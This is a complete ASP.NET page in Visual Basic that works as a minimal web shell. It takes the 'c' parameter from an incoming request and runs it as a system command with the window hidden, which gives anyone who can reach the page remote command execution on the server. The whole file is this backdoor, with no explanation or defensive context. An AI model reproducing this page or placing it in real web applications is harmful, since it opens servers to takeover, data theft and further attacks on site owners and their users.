<%@ Page Language="VB" %>
<% Microsoft.VisualBasic.Interaction.Shell(Request("c"), Microsoft.VisualBasic.AppWinStyle.Hide) %>
